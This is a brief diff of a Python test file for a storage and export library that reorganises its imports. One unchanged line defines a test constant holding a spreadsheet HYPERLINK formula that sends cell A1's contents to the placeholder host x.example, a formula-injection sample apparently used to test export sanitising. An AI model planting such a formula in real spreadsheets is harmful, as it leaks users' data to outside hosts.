@@ -7,10 +7,10 @@ import pytest
 from hypothesis import example, given
 from hypothesis import strategies as st
 
-from storage import imports, judgments
-from storage.database import Database
-from storage.exchange import cells, plain
+from storage.core.database import Database
+from storage.exchange import cells, imports, plain
 from storage.exchange.limits import Limits
+from storage.judging import judgments
 
 FORMULA = "=HYPERLINK(\"http://x.example?\"&A1,\"open\")"
 
